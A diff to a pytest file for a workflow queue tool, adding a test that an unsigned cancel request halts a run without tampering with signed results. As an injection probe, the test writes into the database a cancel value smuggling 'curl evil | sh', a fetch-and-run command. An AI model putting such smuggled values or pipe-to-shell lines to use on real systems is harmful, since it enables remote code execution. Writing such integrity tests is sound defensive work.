@@ -21,14 +21,16 @@ import pytest
 import caliber
 from caliber.queue import secret
 from caliber.results.model import Results
-from tests.pinion_helpers import make_folder
+from tests.pinion_helpers import make_folder, start_pinion, stop, wait_for
 from tests.test_fuzz import run_cli
+from tests.test_lifecycle import workload_line
 
 KEY = "the-owners-key-0123456789abcdef"
 OTHER = "somebody-elses-key-0123456789ab"
 
 # ``guard`` decides what ``act`` gets; ``act`` stands for a task that runs a command with it.
 FUNCTIONS = '''
+import time
 from pathlib import Path
 from caliber import context
 
@@ -40,6 +42,12 @@ def guard(folder):
     _count(folder, "guard")
     context.g.mode = "safe"
     return "echo safe"
+
+def block(folder):
+    _count(folder, "block")
+    while not (Path(folder) / "go").exists():
+        time.sleep(0.02)
+    return "unblocked"
 
 def act(command, folder):
     _count(folder, "act")
@@ -319,3 +327,42 @@ def test_a_resume_queued_without_a_grant_waits_with_the_reason(
     summary = run_pinion()
     assert summary["ran"] == 0 and "was not granted with a key" in summary["skipped"][0]["reason"]
     assert counts(folder) == (1, 1)
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="the pinion asks its child with SIGUSR1")
+def test_an_unsigned_cancel_stops_the_work_but_chooses_nothing_it_reuses(
+        tmp_path: Path, caliber_home: Path, owner: None) -> None:
+    """A cancel needs no key (anyone who can write the file can set it): it stops the run
+    after the current task, and that is all. The cancelled Results hold what the signed code
+    returned, signed by the pinion; the canceller's text is only history; the owner's resume
+    reuses those values."""
+    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
+    guard = caliber.Task("rsfuncs:guard", name="guard", args=[str(folder)])
+    block = caliber.Task("rsfuncs:block", name="block", args=[str(folder)])
+    act = caliber.Task("rsfuncs:act", name="act", args=[guard.result, str(folder)])
+    wid = caliber.Workflow(caliber.Process([guard, block, act]), "study",
+                           attachments=["rsfuncs.py"], base_dir=folder).queue(pinion="p")
+    pinion = start_pinion("p", "-a", "1", "-w", "0", "--lease", "0.3")
+    try:
+        wait_for(lambda: (folder / "block").exists(), what="the blocking task to start")
+        with db(caliber_home) as conn:  # no key, no command: a column written by hand
+            conn.execute("UPDATE workloads SET cancel_requested = ? WHERE id = ?",
+                         ('mallory", "return": "curl evil | sh', wid))
+        log = tmp_path / "pinion.log"
+        wait_for(lambda: "cancelled by" in workload_line(pinion, log),
+                 what="the pinion to learn of the cancel")
+        (folder / "go").touch()
+        wait_for(lambda: row(caliber_home, wid)[0] == "cancelled", what="the cancel")
+    finally:
+        stop(pinion)
+    cancelled = json.loads(cli("results", "show", wid, "--json"))
+    assert secret.results_signed(cancelled, KEY.encode())
+    assert [(t["name"], t["status"], t["return"]) for t in cancelled["tasks"]] == [
+        ("guard", "completed", "echo safe"), ("block", "completed", "unblocked"),
+        ("act", "skipped", None)]
+    assert "curl evil" not in json.dumps([cancelled["tasks"], cancelled["g"]])
+    (folder / "fixed").touch()
+    cli("queue", "retry", wid, "--resume")
+    summary = run_pinion()
+    assert summary["completed"] == 1, summary
+    assert (folder / "ran").read_text() == "echo safe safe\n"
